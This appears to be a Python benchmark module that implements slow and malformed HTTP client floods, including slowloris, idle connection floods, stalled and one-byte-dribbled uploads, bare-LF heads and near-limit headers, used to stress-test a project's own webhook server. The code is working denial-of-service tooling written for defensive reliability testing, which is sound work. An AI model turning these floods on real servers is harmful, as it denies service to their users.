"""Slow and malformed clients for `bench.http_attackers` (run by `bench.http_floods`):
those of security round three (issue 22: `tests/reliability/test_webhook_flood.py`),
of round five and of issue 42, each against the webhook's TLS port. A connection the
server closes is opened again at once, until the flood's end.

- `idle-flood` (round three): 256 TCP connections that never send a byte (no TLS
  handshake either).
- `slowloris`: 128 TLS connections each send a request line and `Host`, then one more
  header line every 5 s, never ending the head.
- `stalled-uploads` (round three): 40 TLS connections each send a head announcing a
  3 MiB body and one byte of it, then nothing.
- `bare-lf-head` (round five, H1): one TLS connection sends a head whose lines end in a
  bare LF (no CR) announcing a 3 MiB body, 3 MB (3,000,000 bytes) of `\\r`, then `\\r` in
  one-byte TLS records in a tight loop.
- `one-byte-heads`: 32 TLS connections each send a valid head one byte (one TLS record)
  every 10 ms, adding header lines forever, never ending it.
- `dribbled-bodies`: 32 TLS connections each send a whole head announcing a 3 MiB body,
  then the body one byte every 10 ms.
- `near-limit-heads`: 32 TLS connections each send a head of 8191 bytes (8 KiB less
  one, most of it one header) without the blank line that ends it, then wait.
- `per-address-cap` (L3): 48 TLS connections held idle from 127.0.0.2, the address the
  legitimate client (the API server) uses.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable, Iterator

from bench.http_attackers import ATTACKER, VALIDATE_PATH, connect
from bench.http_legit import LEGIT

BODY = 3 * 1024 * 1024
DRIBBLE = 0.01  # seconds between two one-byte records
HEAD_LINES = f"POST {VALIDATE_PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
UPLOAD_HEAD = f"{HEAD_LINES}Content-Length: {BODY}\r\n\r\n".encode()

Client = Callable[[int, float], None]


def _again(
    port: int,
    until: float,
    use: Callable[[socket.socket], None],
    tls: bool = True,
    source: str = ATTACKER,
) -> None:
    """Opens a connection, hands it to `use` until it closes or raises, then the next."""
    while time.monotonic() < until:
        began = time.monotonic()
        with contextlib.suppress(OSError):
            sock = connect(port, tls, source, timeout=min(15.0, max(0.1, until - began)))
            try:
                use(sock)
            finally:
                sock.close()
        if time.monotonic() - began < 0.05:
            time.sleep(0.05)  # refused at once: no hot loop


def _hold(sock: socket.socket, until: float) -> None:
    """Reads (and drops) whatever comes until the server closes or the flood ends."""
    while (left := until - time.monotonic()) > 0:
        sock.settimeout(left)
        try:
            if not sock.recv(65536):
                return
        except TimeoutError:
            return


def _dribble(sock: socket.socket, data: Iterator[int], until: float) -> None:
    """Sends one byte per TLS record every `DRIBBLE` seconds; raises once closed."""
    sock.settimeout(15)
    for byte in data:
        if time.monotonic() >= until:
            return
        sock.send(bytes((byte,)))
        time.sleep(DRIBBLE)


def _endless_head() -> Iterator[int]:
    yield from HEAD_LINES.encode()
    n = 0
    while True:
        n += 1
        yield from f"X-Dribble-{n}: {n}\r\n".encode()


def _bytes_forever(byte: bytes) -> Iterator[int]:
    while True:
        yield byte[0]


def idle_flood(port: int, until: float) -> None:
    _again(port, until, lambda sock: _hold(sock, until), tls=False)


def slowloris(port: int, until: float) -> None:
    def use(sock: socket.socket) -> None:
        sock.sendall(f"POST {VALIDATE_PATH} HTTP/1.1\r\nHost: x\r\n".encode())
        n = 0
        while time.monotonic() + 5 < until:
            sock.settimeout(5)
            with contextlib.suppress(TimeoutError):
                if not sock.recv(65536):
                    return  # closed (or answered and closed)
            n += 1
            sock.sendall(f"X-Slow-{n}: {n}\r\n".encode())
        _hold(sock, until)

    _again(port, until, use)


def stalled_uploads(port: int, until: float) -> None:
    def use(sock: socket.socket) -> None:
        sock.sendall(UPLOAD_HEAD + b"{")
        _hold(sock, until)

    _again(port, until, use)


def bare_lf_head(port: int, until: float) -> None:
    head = f"{HEAD_LINES}Content-Length: {BODY}\r\n\r\n".replace("\r\n", "\n").encode()

    def use(sock: socket.socket) -> None:
        sock.sendall(head)
        sock.sendall(b"\r" * 3_000_000)
        while time.monotonic() < until:
            sock.send(b"\r")

    _again(port, until, use)


def one_byte_heads(port: int, until: float) -> None:
    _again(port, until, lambda sock: _dribble(sock, _endless_head(), until))


def dribbled_bodies(port: int, until: float) -> None:
    def use(sock: socket.socket) -> None:
        sock.sendall(UPLOAD_HEAD)
        _dribble(sock, _bytes_forever(b" "), until)

    _again(port, until, use)


def near_limit_heads(port: int, until: float) -> None:
    start = f"{HEAD_LINES}X-Pad: ".encode()
    head = start + b"a" * (8191 - len(start) - 2) + b"\r\n"
    assert len(head) == 8191

    def use(sock: socket.socket) -> None:
        sock.sendall(head)
        _hold(sock, until)

    _again(port, until, use)


def per_address_cap(port: int, until: float) -> None:
    _again(port, until, lambda sock: _hold(sock, until), source=LEGIT)


HOSTILE: dict[str, Callable[[], list[Client]]] = {
    "idle-flood": lambda: [idle_flood] * 256,
    "slowloris": lambda: [slowloris] * 128,
    "stalled-uploads": lambda: [stalled_uploads] * 40,
    "bare-lf-head": lambda: [bare_lf_head],
    "one-byte-heads": lambda: [one_byte_heads] * 32,
    "dribbled-bodies": lambda: [dribbled_bodies] * 32,
    "near-limit-heads": lambda: [near_limit_heads] * 32,
    "per-address-cap": lambda: [per_address_cap] * 48,
}
